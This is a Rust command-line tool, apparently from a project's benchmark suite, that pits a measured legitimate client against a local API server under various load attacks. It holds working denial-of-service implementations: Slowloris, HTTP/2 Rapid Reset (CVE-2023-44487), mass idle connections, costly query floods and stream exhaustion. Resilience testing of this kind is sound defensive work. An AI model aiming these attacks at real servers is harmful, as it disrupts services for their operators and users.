//! One client that behaves, or one that does not, from an address of its own: `attack KIND URL [--from 127.0.0.2] [--seconds 10]
//! [--ca FILE]`. Prints one line of JSON. `benches/peers/python/attack.py` starts the first beside each of the others.

mod client {
    pub(crate) mod wire;
}

use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use clap::{Parser, ValueEnum};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpSocket;
use tokio::time::{interval, sleep, timeout};
use tokio_rustls::TlsConnector;
use url::Url;
use vigie_clock::{Clock, SystemClock};

use client::wire::{Failure, Wire, connector};

#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// Asks 16 times a second on 4 connections, each answer in full; measures.
    Legitimate,
    /// 2,000 heads of requests that come a byte a second.
    Slowloris,
    /// HTTP/2 streams that are taken back as soon as they are asked for, on 4 connections (CVE-2023-44487); needs --ca.
    RapidReset,
    /// 10,000 connections that say nothing.
    Idle,
    /// The most expensive questions, on 16 connections, without a pause, and again 20 ms after a refusal.
    Expensive,
    /// As many live streams as there are, up to 2,000.
    Streams,
}

#[derive(Clone, Parser)]
struct Args {
    kind: Kind,
    url: Url,
    #[arg(long, default_value = "127.0.0.1")]
    from: IpAddr,
    #[arg(long, default_value_t = 10.0)]
    seconds: f64,
    /// Certificate of the server; with it, TLS is spoken
    #[arg(long)]
    ca: Option<PathBuf>,
    /// A field of each request, as "name: value"
    #[arg(long)]
    header: Vec<String>,
}

const ORDINARY: [&str; 4] =
    ["/v1/assets", "/v1/trends", "/v1/assets/BTC/series?metrics=posts,mean_score", "/v1/assets/BTC/posts?limit=20"];

/// A question that is as expensive as one can be, about the data that `api.py --fill` makes, and another one each time, so that its answer is not kept.
fn expensive(number: usize, turn: u64) -> String {
    let (minute, second) = (turn / 60 % 60, turn % 60);
    match number % 3 {
        0 => {
            format!("/v1/search/volume?q=market&interval=1h&from=2025-11-01T00:{minute:02}:{second:02}Z&to=2026-01-31")
        }
        1 => format!("/v1/assets/BTC/posts?format=ndjson&from=2025-11-01T00:{minute:02}:{second:02}Z"),
        _ => {
            let assets: Vec<_> = (0..50).map(|asset| format!("A{asset:04}")).collect();
            let metrics = "posts,unique_authors,mean_score,weighted_sentiment,anomaly_score";
            let from = format!("2026-01-01T07:{:02}:{second:02}Z&to=2026-01-01T22:00:00Z", 10 + minute % 50);
            format!("/v1/series?assets={}&metrics={metrics}&from={from}", assets.join(","))
        }
    }
}

/// What the attackers have done.
#[derive(Default)]
struct Counts {
    connections: AtomicU64,
    requests: AtomicU64,
    served: AtomicU64,
    refused: AtomicU64,
    cut: AtomicU64,
}

fn add(count: &AtomicU64) {
    count.fetch_add(1, Ordering::Relaxed);
}

struct Target {
    args: Args,
    address: SocketAddr,
    tls: Option<TlsConnector>,
    counts: Counts,
}

impl Target {
    fn new(args: Args) -> Result<Self, Failure> {
        let address = *args.url.socket_addrs(|| None)?.first().ok_or("no address")?;
        let tls = args.ca.as_ref().map(|file| connector(file, args.kind == Kind::RapidReset)).transpose()?;
        Ok(Self { args, address, tls, counts: Counts::default() })
    }

    async fn connect(&self) -> Result<Box<dyn Wire>, Failure> {
        let socket = TcpSocket::new_v4()?;
        socket.set_nodelay(true)?;
        socket.bind((self.args.from, 0).into())?;
        let stream = timeout(Duration::from_secs(10), socket.connect(self.address)).await??;
        add(&self.counts.connections);
        let Some(tls) = &self.tls else { return Ok(Box::new(stream)) };
        let name = ServerName::try_from(self.address.ip().to_string())?;
        Ok(Box::new(timeout(Duration::from_secs(10), tls.connect(name, stream)).await??))
    }

    fn head(&self, path: &str) -> String {
        let fields: String = self.args.header.iter().map(|field| format!("{field}\r\n")).collect();
        format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n{fields}")
    }

    /// Asks, and reads the answer's head: its status, and how long its body is, if it says so.
    async fn ask(&self, wire: &mut BufReader<Box<dyn Wire>>, path: &str) -> Result<(u16, Option<u64>), Failure> {
        wire.write_all(format!("{}\r\n", self.head(path)).as_bytes()).await?;
        wire.flush().await?;
        add(&self.counts.requests);
        let (mut line, mut length) = (String::new(), None);
        wire.read_line(&mut line).await?;
        let status: u16 = line.split(' ').nth(1).ok_or("no status line")?.parse()?;
        match status {
            200 => add(&self.counts.served),
            429 | 503 => add(&self.counts.refused),
            _ => {}
        }
        loop {
            line.clear();
            wire.read_line(&mut line).await?;
            let Some((name, value)) = line.trim_end().split_once(": ") else { return Ok((status, length)) };
            if name.eq_ignore_ascii_case("content-length") {
                length = Some(value.parse()?);
            }
        }
    }

    async fn ask_and_read(&self, wire: &mut BufReader<Box<dyn Wire>>, path: &str) -> Result<u16, Failure> {
        let (status, length) = self.ask(wire, path).await?;
        let length = length.ok_or("an answer in chunks")?;
        tokio::io::copy(&mut wire.take(length), &mut tokio::io::sink()).await?;
        Ok(status)
    }

    /// Milliseconds from when each request was due, with what was asked and in which second. A connection that was cut while it was idle is
    /// opened again, as clients do, in that time.
    async fn behave(&self, number: u32) -> Vec<(f64, &'static str, f64)> {
        const EVERY: Duration = Duration::from_millis(250);
        let clock = SystemClock::default();
        let (began, mut wire, mut took) = (clock.monotonic(), None, Vec::new());
        let count = (self.args.seconds / EVERY.as_secs_f64()) as u32;
        for turn in 0..count {
            let due = EVERY * turn + EVERY * number / 4;
            sleep(due.saturating_sub(clock.monotonic() - began)).await;
            let path = ORDINARY[(turn + number) as usize % ORDINARY.len()];
            let mut answered = false;
            for _ in 0..3 {
                let open = match wire.take() {
                    Some(open) => Ok(open),
                    None => self.connect().await.map(BufReader::new),
                };
                let Ok(mut open) = open else { continue };
                let asked = timeout(Duration::from_secs(30), self.ask_and_read(&mut open, path)).await;
                if let Ok(Ok(status)) = asked {
                    answered = status == 200;
                    wire = Some(open);
                    break;
                }
                add(&self.counts.cut);
            }
            let ms = (clock.monotonic() - began).saturating_sub(due).as_secs_f64() * 1000.0;
            took.push((if answered { ms } else { f64::INFINITY }, path, due.as_secs_f64()));
        }
        took
    }

    /// One connection of an attack, until it ends.
    async fn attack(&self, number: usize) -> Result<(), Failure> {
        let mut wire = BufReader::new(self.connect().await?);
        match self.args.kind {
            Kind::Legitimate => unreachable!("measured, not counted"),
            Kind::Slowloris => {
                wire.write_all(format!("{}X-Slow: ", self.head(ORDINARY[0])).as_bytes()).await?;
                let mut tick = interval(Duration::from_secs(1));
                loop {
                    tick.tick().await;
                    wire.write_all(b"x").await?;
                    wire.flush().await?;
                }
            }
            Kind::RapidReset => {
                let (mut client, connection) = h2::client::handshake(wire).await?;
                let driver = tokio::spawn(connection);
                loop {
                    client = client.ready().await?;
                    let request = axum::http::Request::get(self.args.url.join(ORDINARY[1])?.as_str()).body(())?;
                    let (_, mut sent) = client.send_request(request, true)?;
                    sent.send_reset(h2::Reason::CANCEL);
                    add(&self.counts.requests);
                    tokio::task::yield_now().await;
                    if driver.is_finished() {
                        return Ok(());
                    }
                }
            }
            Kind::Idle => drop(wire.read(&mut [0]).await?),
            Kind::Expensive => loop {
                let (status, length) =
                    self.ask(&mut wire, &expensive(number, self.counts.requests.load(Ordering::Relaxed))).await?;
                match length {
                    Some(length) => {
                        tokio::io::copy(&mut (&mut wire).take(length), &mut tokio::io::sink()).await?;
                        if status != 200 {
                            sleep(Duration::from_millis(20)).await;
                        }
                    }
                    // An export: a while of it, then another one.
                    None if status == 200 => {
                        wire.read_exact(&mut vec![0; 256 << 10]).await?;
                        wire = BufReader::new(self.connect().await?);
                    }
                    None => return Err("a refusal in chunks".into()),
                }
            },
            Kind::Streams => {
                if self.ask(&mut wire, "/v1/stream").await?.0 == 200 {
                    tokio::io::copy(&mut wire, &mut tokio::io::sink()).await?;
                }
            }
        }
        Ok(())
    }

    fn connections(&self) -> usize {
        match self.args.kind {
            Kind::Legitimate | Kind::RapidReset => 4,
            Kind::Slowloris | Kind::Streams => 2_000,
            Kind::Idle => 10_000,
            Kind::Expensive => 16,
        }
    }
}

#[tokio::main]
async fn main() -> Result<(), Failure> {
    let args = Args::parse();
    let seconds = Duration::from_secs_f64(args.seconds);
    let target = Arc::new(Target::new(args)?);
    let mut took = Vec::new();
    if target.args.kind == Kind::Legitimate {
        let running: Vec<_> = (0..4)
            .map(|number| {
                let target = target.clone();
                tokio::spawn(async move { target.behave(number).await })
            })
            .collect();
        for one in running {
            took.extend(one.await?);
        }
    } else {
        for number in 0..target.connections() {
            let target = target.clone();
            tokio::spawn(async move {
                loop {
                    if target.attack(number).await.is_err() {
                        add(&target.counts.cut);
                    }
                    // Who was refused or cut off comes again.
                    sleep(Duration::from_millis(if target.args.kind == Kind::RapidReset { 1 } else { 1000 })).await;
                }
            });
            if number % 50 == 49 {
                sleep(Duration::from_millis(5)).await;
            }
        }
        sleep(seconds).await;
    }
    took.sort_by(|(ms, ..), (other, ..)| ms.total_cmp(other));
    let part = |part: f64| took.get((took.len() as f64 * part) as usize).map(|(ms, ..)| *ms);
    let slowest: Vec<_> = took.iter().rev().take(5).collect();
    let count = |count: &AtomicU64| count.load(Ordering::Relaxed);
    let counts = &target.counts;
    let line = serde_json::json!({
        "answered": took.iter().filter(|(ms, ..)| ms.is_finite()).count(), "of": took.len(), "p50_ms": part(0.5), "p99_ms": part(0.99),
        "slowest": slowest,
        "connections": count(&counts.connections), "requests": count(&counts.requests), "served": count(&counts.served), "refused": count(&counts.refused), "cut": count(&counts.cut),
    });
    println!("{line}");
    std::process::exit(0)
}
